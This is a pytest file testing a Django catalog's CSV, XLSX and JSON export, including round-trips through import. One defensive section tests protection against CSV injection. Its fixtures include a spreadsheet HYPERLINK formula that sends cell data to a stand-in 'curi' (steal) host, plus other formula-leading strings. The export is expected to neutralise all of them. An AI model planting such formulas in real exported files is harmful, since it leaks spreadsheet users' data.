"""Export of innovations as CSV, XLSX and JSON; the CSV round-trips through the import."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from lumbung.catalog import importing
from lumbung.catalog.exporting import COLUMNS, export_innovations
from lumbung.catalog.importing import import_innovations
from lumbung.catalog.models import Award, Innovation
from lumbung.organisations.models import Agency, Unit
from lumbung.platform.demo import DEMO_INNOVATIONS

from ..factories import InnovationFactory

pytestmark = pytest.mark.django_db


def export(fmt: str, **kwargs) -> bytes:
    buffer = io.BytesIO()
    export_innovations(buffer, fmt=fmt, **kwargs)
    return buffer.getvalue()


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


@pytest.fixture
def lineage(world):
    """The world's published innovation, awarded, with SDGs, and a published replica of it."""
    world.published.sdgs.set([8, 10])
    Award.objects.create(
        innovation=world.published, level="top_99", year=2023, label="Top 99", competition="KIPP"
    )
    Award.objects.create(innovation=world.published, level="outstanding", year=2024)
    replica = InnovationFactory(
        unit=world.sibling_unit,
        name="Replika Baris",
        publication_state="published",
        source=world.published,
        replication_form="adaptation",
        generation=1,
    )
    return world, replica


def test_csv_has_import_columns_first_and_published_only(lineage):
    world, _replica = lineage
    content = export("csv")
    header = next(csv.reader(io.StringIO(content.decode("utf-8"))))
    assert header[: len(importing.REQUIRED_COLUMNS)] == list(importing.REQUIRED_COLUMNS)
    assert header == list(COLUMNS)
    rows = {r["name"]: r for r in csv_rows(content)}
    # drafts are left out unless --all
    assert set(rows) == {"Baris Ditebas", "Layanan Kota Contoh", "Replika Baris"}
    baris = rows["Baris Ditebas"]
    assert baris["agency"] == "Kementerian Sosial"
    assert baris["unit"] == "Sentra Terpadu Kartini Temanggung"
    assert baris["slug"] == world.published.slug
    assert baris["sector"] == "social"
    assert baris["stage"] == "creation" and baris["status"] == "continuing"
    assert baris["publication"] == "published"
    assert baris["sdgs"] == "8 ; 10"
    assert baris["award"] == "Top 99" and baris["year"] == "2023"
    assert baris["awards"] == "Top 99 (2023) ; Outstanding (2024)"
    assert baris["solution"] == world.published.summary
    replica_row = rows["Replika Baris"]
    assert replica_row["replicated_from"] == world.published.slug
    assert (replica_row["replication_form"], replica_row["generation"]) == ("adaptation", "1")


def test_export_all_includes_drafts(world):
    names = {r["name"] for r in csv_rows(export("csv", include_all=True))}
    assert names == set(Innovation.objects.values_list("name", flat=True))
    assert "Sheltered Workshop Peduli" in names


def test_region_code_comes_from_the_unit_or_the_agency(world):
    world.other_agency.region_id = "33.74"
    world.other_agency.save()
    rows = {r["name"]: r for r in csv_rows(export("csv"))}
    assert rows["Layanan Kota Contoh"]["region"] == "33.74"
    assert rows["Baris Ditebas"]["region"] == ""


def test_xlsx_content(lineage):
    world, _replica = lineage
    world.published.name = "=1+1 bukan rumus"
    world.published.save()
    workbook = load_workbook(io.BytesIO(export("xlsx")))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == 4
    by_name = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
    assert by_name["=1+1 bukan rumus"]["agency"] == "Kementerian Sosial"
    # text that looks like a formula stays text
    cell = next(c for c in sheet["A"] if c.value == "=1+1 bukan rumus")
    assert cell.data_type == "s"


def test_json_content(lineage):
    world, replica = lineage
    records = json.loads(export("json").decode("utf-8"))
    assert len(records) == 3
    by_slug = {r["slug"]: r for r in records}
    baris = by_slug[world.published.slug]
    assert baris["sdgs"] == [8, 10]
    assert baris["year"] == 2023
    assert [a["level"] for a in baris["awards"]] == ["top_99", "outstanding"]
    assert by_slug[replica.slug]["replicated_from"] == world.published.slug
    assert by_slug[replica.slug]["generation"] == 1


def test_empty_json_is_an_empty_list(db):
    assert json.loads(export("json")) == []


def test_progress_is_reported(world):
    seen = []
    export_innovations(io.BytesIO(), fmt="csv", progress=lambda done, total: seen.append(total))
    assert seen == [2, 2]


def test_query_count_does_not_grow_with_rows(world, django_assert_max_num_queries):
    with django_assert_max_num_queries(4):
        export("csv", include_all=True)
    for i in range(10):
        InnovationFactory(unit=world.unit, name=f"Tambahan {i}", publication_state="published")
    with django_assert_max_num_queries(4):
        export("csv", include_all=True)


def _comparable(content: bytes) -> list[dict[str, str]]:
    skip = {"slug", "replicated_from"}
    return sorted(
        ({k: v for k, v in r.items() if k not in skip} for r in csv_rows(content)),
        key=lambda r: (r["agency"], r["unit"], r["name"]),
    )


def test_csv_round_trip_through_the_import(db):
    first = import_innovations(DEMO_INNOVATIONS, publish=True)
    assert first.created == 87
    exported = export("csv")
    assert len(csv_rows(exported)) == 87

    # importing the export again into the same database finds every innovation
    again = import_innovations(exported, publish=True)
    assert again.ok, again.problems
    assert (again.valid, again.created, again.existing) == (87, 0, 87)

    # ... and into an empty one it rebuilds the same catalog
    Innovation.objects.all().delete()
    Unit.objects.all().delete()
    Agency.objects.all().delete()
    rebuilt = import_innovations(exported, publish=True)
    assert rebuilt.ok and rebuilt.created == 87
    assert _comparable(export("csv")) == _comparable(exported)


# --- spreadsheet formulas ("CSV injection") -----------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik di sini")',
    "+1 layanan baru",
    "-2+3",
    "@SUM(1)",
]


@pytest.fixture
def formulas(world):
    """Published innovations whose name and summary start like a spreadsheet formula."""
    for i, text in enumerate(FORMULAS):
        InnovationFactory(
            unit=world.unit,
            name=f"{text} #{i}",
            summary=f"{text} (ringkasan)",
            publication_state="published",
        )
    return world


def test_csv_quotes_text_that_a_spreadsheet_would_run_as_a_formula(formulas):
    rows = csv_rows(export("csv"))
    names = {r["name"] for r in rows}
    for i, text in enumerate(FORMULAS):
        assert f"'{text} #{i}" in names
        assert f"{text} #{i}" not in names
        solution = next(r["solution"] for r in rows if r["name"] == f"'{text} #{i}")
        assert solution == f"'{text} (ringkasan)"
    # no cell of the file starts like a formula any more
    for r in rows:
        for column, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    # other text is left alone
    assert "Baris Ditebas" in names


def test_csv_writes_numbers_as_numbers_and_numeric_text_quoted(world):
    from lumbung.catalog.exporting import csv_row, export_queryset, innovation_record

    record = innovation_record(export_queryset().get(pk=world.published.pk))
    record.update(
        year=-5,
        generation=-1,
        start_year=2020,
        acronym="-5",
        name="+62 812 0000",
        problem="\tcmd",
        acronym_expansion="\rcmd",
        award="Top 99 - 2023",
    )
    row = csv_row(record)
    # a negative number in a numeric column is a number, not a formula
    assert (row["year"], row["generation"], row["start_year"]) == (-5, -1, 2020)
    # the same characters as text are quoted, and so are a leading tab and carriage return
    assert (row["acronym"], row["name"]) == ("'-5", "'+62 812 0000")
    assert (row["problem"], row["acronym_expansion"]) == ("'\tcmd", "'\rcmd")
    # a formula character inside the text is harmless
    assert row["award"] == "Top 99 - 2023"
    out = io.StringIO()
    csv.DictWriter(out, fieldnames=COLUMNS).writerow(row)
    assert out.getvalue().startswith("'+62 812 0000,")


def test_xlsx_cells_are_text_without_a_quote(formulas):
    sheet = load_workbook(io.BytesIO(export("xlsx"))).active
    names = {c.value for c in sheet["A"][1:]}
    assert f"{FORMULAS[0]} #0" in names and f"'{FORMULAS[0]} #0" not in names


def test_csv_with_formulas_round_trips_through_the_import(formulas):
    exported = export("csv")
    before = {
        i.name: (i.summary, i.acronym_expansion)
        for i in Innovation.objects.filter(publication_state="published")
    }
    Innovation.objects.all().delete()
    report = import_innovations(exported, publish=True)
    assert report.ok, report.problems
    assert report.created == len(before)
    # nothing had to be neutralised: the export quoted it
    assert not [n for n in report.notices if "formula" in n]
    after = {i.name: (i.summary, i.acronym_expansion) for i in Innovation.objects.all()}
    assert after == before
    for i, text in enumerate(FORMULAS):
        assert f"{text} #{i}" in after
    # and exporting again gives the same file
    assert _comparable(export("csv")) == _comparable(exported)
